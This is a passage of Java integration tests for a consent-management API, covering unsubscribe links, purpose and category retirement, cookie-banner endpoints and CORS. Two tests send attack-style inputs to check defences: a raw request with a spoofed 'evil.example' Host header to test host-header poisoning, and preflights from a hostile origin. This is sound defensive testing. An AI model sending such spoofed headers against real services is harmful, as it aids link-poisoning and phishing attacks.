        assertThat(aged.status()).as(aged.toString()).isEqualTo(201);
        String later = URI.create(aged.json().getString("url")).getRawPath();
        Thread.sleep(Duration.ofMillis(2100).toMillis());
        assertThat(anon.get(later).status()).isEqualTo(200);
        Http.Response multipart = raw(anon, "POST", later, "multipart/form-data; boundary=mb7Kx",
                "--mb7Kx\r\nContent-Disposition: form-data; name=\"List-Unsubscribe\"\r\n\r\nOne-Click\r\n--mb7Kx--\r\n");
        assertThat(multipart.status()).as(multipart.toString()).isEqualTo(200);
        assertThat(multipart.body()).contains("You are unsubscribed");
        assertThat(count("SELECT COUNT(*) FROM consent_event WHERE holder_ref = 'subject:" + s3
                + "' AND purpose_key = 'direct-marketing' AND action = 'OPT_OUT' AND source = 'EMAIL_LINK'"))
                .isEqualTo(1);

        problem(HTTP.post(base + "/unsubscribe-links", "{\"purpose\":\"app-provision\"}"), 400, "validation", "purpose");
    }

    @Test
    void anUnsubscribeLinksHostIsTheConfiguredPublicUrlWhateverTheRequestsHostHeader() throws Exception {
        String s6 = Fixtures.subject(HTTP, tenant);
        String path = "/api/v1/tenants/" + tenant + "/subjects/" + s6 + "/consents/unsubscribe-links";
        String body = "{\"purpose\":\"drip-emails\"}";
        java.net.http.HttpHeaders auth = HTTP.authenticate(HttpRequest.newBuilder(SERVER.uri(path))).build().headers();
        StringBuilder request = new StringBuilder("POST " + path + " HTTP/1.0\r\nHost: evil.example\r\n"
                + "Content-Type: application/json\r\nContent-Length: " + body.length() + "\r\n");
        auth.map().forEach((name, values) -> request.append(name).append(": ").append(values.get(0)).append("\r\n"));
        request.append("\r\n").append(body);
        URI server = SERVER.uri("/");
        String answer;
        try (java.net.Socket socket = new java.net.Socket(server.getHost(), server.getPort())) {
            socket.getOutputStream().write(request.toString().getBytes(StandardCharsets.UTF_8));
            answer = new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        }
        assertThat(answer).matches("(?s)HTTP/1\\.[01] 201 .*").contains("\"url\":\"" + StewardServer.PUBLIC_URL
                + "/api/v1/public/unsubscribe/").doesNotContain("evil.example");
    }

    // --- policy §11: never sold; purposes edited and retired (issue 10, items 1 and 9) ---------------------------

    @Test
    void noPurposeIsCreatedOrChangedIntoASaleAndNothingIsGrantedForOne() throws Exception {
        String u = Fixtures.unique();
        long before = count("SELECT COUNT(*) FROM consent_purpose");
        problem(HTTP.post("/api/v1/consent/purposes", "{\"key\":\"sell-" + u + "\",\"name\":\"Lists\","
                + "\"description\":\"Selling lists\",\"legalBasis\":\"CONSENT\",\"ccpa\":\"SALE\","
                + "\"categories\":[\"contact\"]}"), 422, "business-rule", "ccpa");
        problem(HTTP.post("/api/v1/consent/purposes", "{\"key\":\"ads-" + u + "\",\"name\":\"Ads\","
                + "\"description\":\"Ads\",\"legalBasis\":\"LEGITIMATE_INTEREST\",\"ccpa\":\"SHARING\","
                + "\"optOutAllowed\":true,\"categories\":[\"website-visitor\"]}"), 422, "business-rule", "legalBasis");
        problem(HTTP.post("/api/v1/consent/purposes", "{\"key\":\"ads-" + u + "\",\"name\":\"Ads\","
                + "\"description\":\"Ads\",\"legalBasis\":\"CONSENT\",\"ccpa\":\"RENT\","
                + "\"categories\":[\"website-visitor\"]}"), 400, "validation", "ccpa");
        assertThat(count("SELECT COUNT(*) FROM consent_purpose")).isEqualTo(before);
        problem(HTTP.patch("/api/v1/consent/purposes/drip-emails", "{\"ccpa\":\"SALE\"}"), 422, "business-rule",
                "ccpa");
        assertThat(HTTP.get("/api/v1/consent/purposes/drip-emails").json().getString("ccpa")).isEqualTo("NONE");
        problem(HTTP.post(consents, "{\"purpose\":\"sale-or-sharing\",\"action\":\"OPT_IN\"}"), 422,
                "business-rule", "purpose");
    }

    @Test
    void purposesAreEditedAndRetiredKeepingTheirHistory() throws Exception {
        String u = Fixtures.unique();
        String key = "partner-" + u;
        Http.Response created = HTTP.post("/api/v1/consent/purposes", "{\"key\":\"" + key + "\",\"name\":\"Partner"
                + " offers\",\"description\":\"Offers\",\"legalBasis\":\"CONSENT\",\"optOutAllowed\":true,"
                + "\"categories\":[\"contact\"]}");
        assertThat(created.status()).as(created.toString()).isEqualTo(201);
        assertThat(created.json().getString("ccpa")).isEqualTo("NONE");
        int v = notice(key, "Partner offers by email");
        Http.Response grant = HTTP.post(consents, "{\"purpose\":\"" + key + "\",\"action\":\"GRANT\","
                + "\"noticeVersion\":" + v + "}");
        assertThat(grant.status()).as(grant.toString()).isEqualTo(201);
        String decision = "/api/v1/consent/decision?subject=" + subject + "&purpose=" + key;
        assertThat(HTTP.get(decision).json().getBoolean("allowed")).isTrue();

        Http.Response edited = HTTP.patch("/api/v1/consent/purposes/" + key, "{\"name\":\" Partner offers (EU) \","
                + "\"categories\":[\"contact\",\"website-visitor\"]}");
        assertThat(edited.status()).as(edited.toString()).isEqualTo(200);
        assertThat(edited.json().getString("name")).isEqualTo("Partner offers (EU)");
        assertThat(edited.json().getString("description")).isEqualTo("Offers");
        assertThat(edited.json().getJsonArray("categories")).hasSize(2);
        assertThat(edited.json().getString("updatedAt")).isNotBlank();
        problem(HTTP.patch("/api/v1/consent/purposes/" + key, "{\"legalBasis\":\"CONTRACT\"}"), 400,
                "unknown-field", "legalBasis");
        problem(HTTP.patch("/api/v1/consent/purposes/" + key, "{\"name\":\"  \"}"), 400, "validation", "name");
        problem(HTTP.patch("/api/v1/consent/purposes/no-such-" + u, "{}"), 404, "not-found", "purposeKey");
        problem(SERVER.as(null, "SUPPORT_AGENT").patch("/api/v1/consent/purposes/" + key, "{}"), 403, "forbidden");

        problem(HTTP.post("/api/v1/consent/purposes/" + key + "/retirement", "{}"), 400, "validation", "reason");
        Http.Response retired = HTTP.post("/api/v1/consent/purposes/" + key + "/retirement",
                "{\"reason\":\"The partner programme ended\"}");
        assertThat(retired.status()).as(retired.toString()).isEqualTo(200);
        assertThat(retired.json().getBoolean("retired")).isTrue();
        assertThat(retired.json().getString("retirementReason")).isEqualTo("The partner programme ended");
        JsonObject d = HTTP.get(decision).json();
        assertThat(d.getBoolean("allowed")).isFalse();
        assertThat(d.getString("reason")).isEqualTo("PURPOSE_RETIRED");
        problem(HTTP.post(consents, "{\"purpose\":\"" + key + "\",\"action\":\"GRANT\",\"noticeVersion\":" + v
                + "}"), 422, "business-rule", "purpose");
        assertThat(HTTP.post(consents, "{\"purpose\":\"" + key + "\",\"action\":\"WITHDRAW\"}").status())
                .as("saying no is still recorded").isEqualTo(201);
        assertThat(HTTP.get(consents + "/history").json().getJsonArray("events").stream().map(JsonObject.class::cast)
                .filter(e -> e.getString("purpose").equals(key)).map(e -> e.getString("action")).toList())
                .containsExactly("GRANT", "WITHDRAW");
        assertThat(HTTP.get("/api/v1/consent/purposes/" + key + "/notices").json().getJsonArray("items")).hasSize(1);
        assertThat(HTTP.post("/api/v1/consent/purposes/" + key + "/retirement", "{\"reason\":\"again\"}").json()
                .getString("retirementReason")).as("retired once").isEqualTo("The partner programme ended");
        // Audited (a purpose key is no id, so the entry names the kind of target only).
        assertThat(count("SELECT COUNT(*) FROM platform_audit_entry WHERE action = 'purpose.retire'"
                + " AND target_type = 'purpose' AND outcome = 'SUCCESS'")).isGreaterThanOrEqualTo(1);
    }

    @Test
    void categoriesAreEditedAndRetiredOnceNoCurrentPurposeUsesThem() {
        String u = Fixtures.unique();
        String cat = "cat-r-" + u;
        assertThat(HTTP.post("/api/v1/consent/data-categories", "{\"key\":\"" + cat + "\",\"name\":\"Billing\","
                + "\"description\":\"Invoices\",\"dataSubjects\":\"Customers\"}").status()).isEqualTo(201);
        String purpose = "billing-" + u;
        assertThat(HTTP.post("/api/v1/consent/purposes", "{\"key\":\"" + purpose + "\",\"name\":\"Billing\","
                + "\"description\":\"Invoices\",\"legalBasis\":\"CONTRACT\",\"categories\":[\"" + cat + "\"]}")
                .status()).isEqualTo(201);
        Http.Response edited = HTTP.patch("/api/v1/consent/data-categories/" + cat, "{\"description\":\"Invoices and"
                + " receipts\"}");
        assertThat(edited.status()).as(edited.toString()).isEqualTo(200);
        assertThat(edited.json().getString("description")).isEqualTo("Invoices and receipts");
        assertThat(edited.json().getString("name")).isEqualTo("Billing");
        problem(HTTP.post("/api/v1/consent/data-categories/" + cat + "/retirement", "{\"reason\":\"merged\"}"), 409,
                "conflict", "categoryKey");
        assertThat(HTTP.patch("/api/v1/consent/purposes/" + purpose, "{\"categories\":[\"contact\"]}").status())
                .isEqualTo(200);
        Http.Response retired = HTTP.post("/api/v1/consent/data-categories/" + cat + "/retirement",
                "{\"reason\":\"merged into contact\"}");
        assertThat(retired.status()).as(retired.toString()).isEqualTo(200);
        assertThat(retired.json().getBoolean("retired")).isTrue();
        problem(HTTP.patch("/api/v1/consent/purposes/" + purpose, "{\"categories\":[\"contact\",\"" + cat + "\"]}"),
                422, "business-rule", "categories");
        problem(HTTP.patch("/api/v1/consent/data-categories/no-such-" + u, "{}"), 404, "not-found", "categoryKey");
    }

    // --- cookie banners (issue 10, item 7) ------------------------------------------------------------------------

    @Test
    void aBannerReadsTheCurrentPurposesAndNoticeVersionsWithoutLoggingIn() {
        int v = notice("web-analytics", "We count visits with Google Analytics " + Fixtures.unique());
        Http.Response r = SERVER.anonymous().get("/api/v1/public/consent/purposes");
        assertThat(r.status()).as(r.toString()).isEqualTo(200);
        List<JsonObject> items = r.json().getJsonArray("items").getValuesAs(JsonObject.class);
        JsonObject analytics = items.stream().filter(p -> p.getString("key").equals("web-analytics")).findFirst()
                .orElseThrow();
        JsonObject en = analytics.getJsonArray("notices").getValuesAs(JsonObject.class).stream()
                .filter(n -> n.getString("language").equals("en")).findFirst().orElseThrow();
        assertThat(en.getInt("version")).as("the latest version").isEqualTo(v);
        assertThat(en.getString("text")).startsWith("We count visits");
        assertThat(items).extracting(p -> p.getString("key")).contains("cross-context-advertising")
                .doesNotContain("sale-or-sharing");
    }

    @Test
    void thePublicConsentEndpointsAnswerCorsForTheConfiguredOriginsOnly() throws Exception {
        Http anon = SERVER.anonymous();
        String path = "/api/v1/public/consent/devices/cors-" + java.util.UUID.randomUUID();
        Http.Response allowed = raw(anon, "OPTIONS", path, null, null, "Origin", BANNER_ORIGIN,
                "Access-Control-Request-Method", "POST", "Access-Control-Request-Headers", "content-type");
        assertThat(allowed.status()).as(allowed.toString()).isIn(200, 204);
        assertThat(allowed.header("Access-Control-Allow-Origin")).isEqualTo(BANNER_ORIGIN);
        assertThat(allowed.header("Access-Control-Allow-Methods")).contains("POST");
        assertThat(allowed.header("Access-Control-Allow-Headers")).containsIgnoringCase("content-type");

        Http.Response unknown = raw(anon, "OPTIONS", path, null, null, "Origin", "https://evil.example",
                "Access-Control-Request-Method", "POST");
        assertThat(unknown.status()).isLessThan(500);
        assertThat(unknown.header("Access-Control-Allow-Origin")).isNull();
        assertThat(unknown.header("Access-Control-Allow-Methods")).isNull();

        Http.Response get = raw(anon, "GET", "/api/v1/public/consent/purposes", null, null, "Origin", BANNER_ORIGIN);
        assertThat(get.status()).isEqualTo(200);
        assertThat(get.header("Access-Control-Allow-Origin")).isEqualTo(BANNER_ORIGIN);
        assertThat(raw(anon, "GET", "/api/v1/public/consent/purposes", null, null, "Origin", "https://evil.example")
                .header("Access-Control-Allow-Origin")).isNull();
        assertThat(raw(HTTP, "OPTIONS", "/api/v1/consent/purposes", null, null, "Origin", BANNER_ORIGIN,
                "Access-Control-Request-Method", "GET").header("Access-Control-Allow-Origin"))
                .as("staff endpoints are not for other origins").isNull();
    }
}
